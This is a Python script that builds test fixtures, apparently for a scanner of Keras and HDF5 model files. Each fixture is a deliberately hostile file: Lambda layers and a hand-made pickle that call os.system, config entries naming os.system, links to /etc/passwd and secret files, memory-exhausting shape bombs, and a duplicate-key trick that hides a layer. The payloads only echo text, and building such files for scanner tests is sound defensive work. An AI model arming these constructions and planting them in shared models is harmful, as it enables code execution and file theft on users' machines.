"""Regenerates the Keras/HDF5 fixtures in this directory with h5py (Keras itself is not installable here).

Run with /usr/bin/python3 (h5py, numpy). Nothing here is ever loaded by Keras, and no payload is ever called:
the payload lambdas are only compiled so that marshal can serialise their code objects the way Keras' func_dump
does (base64 of marshal.dumps(code)). Payloads are harmless (`echo pwned`, `1+1`).
"""
import codecs, io, json, marshal, os, zipfile
import h5py, numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
os.chdir(HERE)


def func_dump(fn):  # what keras.utils.python_utils.func_dump writes: base64 (MIME lines) of marshal(code)
    return codecs.encode(marshal.dumps(fn.__code__), "base64").decode("ascii")


BENIGN = lambda x: x * 2  # noqa: E731
OS_SYSTEM = lambda x: __import__("os").system("echo pwned") or x  # noqa: E731  (never called)
EVAL = lambda x: eval("1+1") and x  # noqa: E731  (never called)


def k2_lambda(fn, name="lambda"):
    return {"class_name": "Lambda", "config": {"name": name, "trainable": True, "dtype": "float32",
            "function": [func_dump(fn), None, None], "function_type": "lambda", "module": "__main__",
            "output_shape": None, "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}}


def k2_dense(name="dense", activation="relu"):
    return {"class_name": "Dense", "config": {"name": name, "trainable": True, "dtype": "float32", "units": 2,
            "activation": activation, "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
            "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None,
            "bias_constraint": None}}


def k2_input(name="input_1"):
    return {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
            "sparse": False, "ragged": False, "name": name}}


def k2_seq(layers, name="sequential"):
    return {"class_name": "Sequential", "config": {"name": name, "layers": layers}}


TRAINING = {"loss": "mse", "metrics": [[{"class_name": "MeanMetricWrapper", "config": {"name": "mae",
            "dtype": "float32", "fn": "mean_absolute_error"}}]], "weighted_metrics": None, "loss_weights": None,
            "optimizer_config": {"class_name": "Adam", "config": {"name": "Adam", "learning_rate": 0.001,
            "decay": 0.0, "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}}}


def write_k2(path, model_config, training=TRAINING, **kw):
    """A Keras 2 legacy .h5: root attrs like save_model_to_hdf5, plus a model_weights group with weights."""
    with h5py.File(path, "w", **kw) as f:
        f.attrs["keras_version"] = "2.11.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(model_config).encode("utf8")
        if training is not None:
            f.attrs["training_config"] = json.dumps(training).encode("utf8")
        w = f.create_group("model_weights")
        w.attrs["layer_names"] = np.array([b"dense"])
        w.attrs["backend"] = b"tensorflow"
        w.attrs["keras_version"] = b"2.11.0"
        d = w.create_group("dense")
        d.attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
        d.create_dataset("dense/kernel:0", data=np.ones((4, 2), dtype="f4"))
        d.create_dataset("dense/bias:0", data=np.zeros((2,), dtype="f4"))


CLEAN = k2_seq([k2_input(), k2_dense()])
LAMBDA_SEQ = k2_seq([k2_input(), k2_dense(), k2_lambda(OS_SYSTEM)])
LAMBDA_NESTED = {"class_name": "Functional", "config": {"name": "outer", "layers": [
    {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "in"},
     "name": "in", "inbound_nodes": []},
    {"class_name": "Sequential", "config": {"name": "inner", "layers": [k2_input("inner_in"), k2_dense(),
     k2_lambda(BENIGN, "inner_lambda")]}, "name": "inner", "inbound_nodes": [[["in", 0, 0, {}]]]}],
    "input_layers": [["in", 0, 0]], "output_layers": [["inner", 0, 0]]}}
LAMBDA_WRAPPER = k2_seq([k2_input(), {"class_name": "TimeDistributed", "config": {"name": "td",
    "layer": k2_lambda(EVAL, "wrapped_lambda")}}])
ACTIVATION = k2_seq([k2_input(), k2_dense(activation={"module": "os", "class_name": "function",
                                                       "config": "system", "registered_name": None})])
CUSTOM = k2_seq([k2_input(), {"class_name": "MyCustomLayer", "config": {"name": "custom", "units": 2}},
                 k2_dense(activation="my_activation")])
CUSTOM_TRAINING = dict(TRAINING, loss="my_custom_loss")

write_k2("clean_dense.h5", CLEAN)
write_k2("lambda_sequential.h5", LAMBDA_SEQ)
write_k2("lambda_nested.h5", LAMBDA_NESTED)
write_k2("lambda_wrapper.h5", LAMBDA_WRAPPER)
write_k2("activation_os_system.h5", ACTIVATION)
write_k2("custom_objects.h5", CUSTOM, training=CUSTOM_TRAINING)

# Old h5py/Keras wrote fixed-length S<n> strings; split config (model_config0, model_config1) is concatenated.
with h5py.File("fixed_and_split.h5", "w") as f:
    f.attrs.create("model_config", np.bytes_(json.dumps(LAMBDA_WRAPPER).encode("utf8")))
    s = json.dumps(LAMBDA_SEQ).encode("utf8")
    f.attrs["model_config0"] = s[: len(s) // 2]
    f.attrs["model_config1"] = s[len(s) // 2:]

# External link: /ext points into another file; a loader following it opens /etc/passwd.
with h5py.File("external_link.h5", "w") as f:
    f.create_group("model_weights")
    f["model_weights/ext"] = h5py.ExternalLink("/etc/passwd", "/x")

# External data file (EFL): the dataset's raw data is read from ../../secret.bin by libhdf5.
with h5py.File("external_storage.h5", "w") as f:
    f.create_dataset("efl", shape=(16,), dtype="u1", external=[("../../secret.bin", 0, 16)])

# Virtual dataset: maps ../other.h5:/data; libhdf5 opens that file when the dataset is read.
# (The only fixture that is not byte-identical between runs: its object header carries modification times.)
with h5py.File("virtual_dataset.h5", "w") as f:
    layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
    layout[:] = h5py.VirtualSource("../other.h5", "data", shape=(4,))
    f.create_virtual_dataset("v", layout, fillvalue=0)

# Unknown filter id 40000: libhdf5 would look for a native plugin in HDF5_PLUGIN_PATH when the data is read.
# (One chunk of 4 floats is written unfiltered-looking by h5py; nobody reads it.)
with h5py.File("unknown_filter.h5", "w") as f:
    f.create_dataset("x", shape=(4,), dtype="f4", chunks=(4,), compression=40000, allow_unknown_filter=True)

# Hard-link cycle (/a/loop is /a itself) and a soft link: a naive recursive walk never ends.
with h5py.File("link_cycle.h5", "w") as f:
    a = f.create_group("a")
    a["loop"] = a
    f["soft"] = h5py.SoftLink("/a")
    a.create_dataset("w", data=np.zeros((2,), dtype="f4"))

# Shape bomb: a chunked dataset declaring 1e6 x 1e6 float64 (8 TB). No chunk is ever written, so the file stays
# ~1.4 KB; a loader that allocates the declared shape (h5py read, Keras load_weights) exhausts memory.
with h5py.File("shape_bomb.h5", "w") as f:
    f.create_dataset("model_weights/dense/kernel", shape=(1_000_000, 1_000_000), dtype="f8", chunks=(1, 1))

# The same declared 8 TB with the default contiguous layout: HDF5 allocates the space late, so nothing is written,
# the data address stays undefined, and readers return 8 TB of fill values.
with h5py.File("shape_bomb_contiguous.h5", "w") as f:
    f.create_dataset("model_weights/dense/kernel", shape=(1_000_000, 1_000_000), dtype="f8")

# User block: h5py reserves 512 bytes before the superblock; we put a hand-assembled protocol-2 pickle there
# (GLOBAL os.system, REDUCE with 'echo pwned'). Written opcode by opcode, never unpickled.
PICKLE = (b"\x80\x02cos\nsystem\nq\x00X\n\x00\x00\x00echo pwnedq\x01\x85q\x02Rq\x03.")
write_k2("userblock_pickle.h5", CLEAN, userblock_size=512)
with open("userblock_pickle.h5", "r+b") as fh:
    fh.write(PICKLE)


# ---- Keras 3 .keras archives: config.json + metadata.json + model.weights.h5, stored (uncompressed) like Keras.
def k3(module, cls, config, **extra):
    d = {"module": module, "class_name": cls, "config": config, "registered_name": None}
    d.update(extra)
    return d


def k3_dtype():
    return k3("keras", "DTypePolicy", {"name": "float32"})


def k3_dense(name="dense", activation="relu"):
    return k3("keras.layers", "Dense", {"name": name, "trainable": True, "dtype": k3_dtype(), "units": 2,
              "activation": activation, "use_bias": True,
              "kernel_initializer": k3("keras.initializers", "GlorotUniform", {"seed": None}),
              "bias_initializer": k3("keras.initializers", "Zeros", {}), "kernel_regularizer": None,
              "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None},
              build_config={"input_shape": [None, 4]})


def k3_input(name="input_layer"):
    return k3("keras.layers", "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False,
              "name": name})


def k3_lambda(fn, name="lambda"):
    return k3("keras.layers", "Lambda", {"name": name, "trainable": True, "dtype": k3_dtype(),
              "function": {"class_name": "__lambda__", "config": {"code": func_dump(fn), "defaults": None,
                                                                   "closure": None}},
              "arguments": {}})


def k3_seq(layers, name="sequential"):
    return k3("keras", "Sequential", {"name": name, "trainable": True, "dtype": k3_dtype(), "layers": layers},
              build_config={"input_shape": [None, 4]},
              compile_config={"optimizer": k3("keras.optimizers", "Adam", {"name": "adam",
                                                                            "learning_rate": 0.001}),
                              "loss": "mean_squared_error", "loss_weights": None, "metrics": None,
                              "weighted_metrics": None, "run_eagerly": False, "steps_per_execution": 1,
                              "jit_compile": False})


def weights_h5():
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        g = f.create_group("layers/dense/vars")
        g.create_dataset("0", data=np.ones((4, 2), dtype="f4"))
        g.create_dataset("1", data=np.zeros((2,), dtype="f4"))
        f.create_group("optimizer/vars")
    return buf.getvalue()


WEIGHTS = weights_h5()
META = json.dumps({"keras_version": "3.5.0", "date_saved": "2026-11-26@04:00:00"})


def write_keras(path, config_text, weights=WEIGHTS):
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in (("metadata.json", META), ("config.json", config_text), ("model.weights.h5", weights)):
            z.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data)  # fixed time: reproducible


write_keras("clean_dense.keras", json.dumps(k3_seq([k3_input(), k3_dense()])))
write_keras("lambda_sequential.keras", json.dumps(k3_seq([k3_input(), k3_dense(), k3_lambda(OS_SYSTEM)])))
write_keras("lambda_nested.keras", json.dumps(k3("keras", "Functional", {"name": "outer", "layers": [
    k3_input("in"), k3_seq([k3_input("inner_in"), k3_lambda(BENIGN, "inner_lambda")], name="inner")]},
    registered_name="Functional")))
write_keras("lambda_wrapper.keras", json.dumps(k3_seq([k3_input(), k3("keras.layers", "Bidirectional", {
    "name": "bidi", "layer": k3_lambda(EVAL, "forward"), "backward_layer": k3_lambda(BENIGN, "backward")})])))
# CVE-2025-1550 shape: a config that names os.system as the activation function.
write_keras("activation_os_system.keras", json.dumps(k3_seq([k3_input(), k3_dense(
    activation=k3("os", "function", "system"))])))
write_keras("custom_objects.keras", json.dumps(k3_seq([k3_input(), k3("my_package.layers", "MyCustomLayer",
    {"name": "custom"}, registered_name="my_package>MyCustomLayer"), k3_dense(activation=k3(
        "builtins", "function", "my_activation", registered_name="function"))])))
# CVE-2025-9906 / -8747 shape: non-modelling Keras APIs named from the config.
write_keras("non_modeling_api.keras", json.dumps(k3_seq([k3_input(), k3("keras.config",
    "enable_unsafe_deserialization", {}), k3("keras.utils", "get_file", {"origin": "http://example.invalid/x",
                                                                         "fname": "/tmp/x"})])))
# CVE-2025-49655 shape: TorchModuleWrapper carries base64 of torch.save output (a pickle) in config.module.
write_keras("torch_wrapper.keras", json.dumps(k3_seq([k3_input(), k3("keras.layers", "TorchModuleWrapper", {
    "name": "torch_module_wrapper", "module": codecs.encode(PICKLE, "base64").decode("ascii")})])))
# Python's json keeps the LAST duplicate key: the benign first value hides the Lambda from first-wins readers.
# The key of the second "layers" is written with a \u escape, which json.loads reads as the same key.
benign_layers = json.dumps([k3_input(), k3_dense()])
evil_layers = json.dumps([k3_input(), k3_lambda(OS_SYSTEM)])
write_keras("duplicate_keys.keras", '{"module": "keras", "class_name": "Sequential", "registered_name": null, '
            '"config": {"name": "seq", "layers": ' + benign_layers + ', "l\\u0061yers": ' + evil_layers + '}}')
# Weights file whose HDF5 carries an external link (dispatched as HDF5 by the zip scanner).
with open("external_link.h5", "rb") as fh:
    write_keras("external_link_weights.keras", json.dumps(k3_seq([k3_input(), k3_dense()])), fh.read())
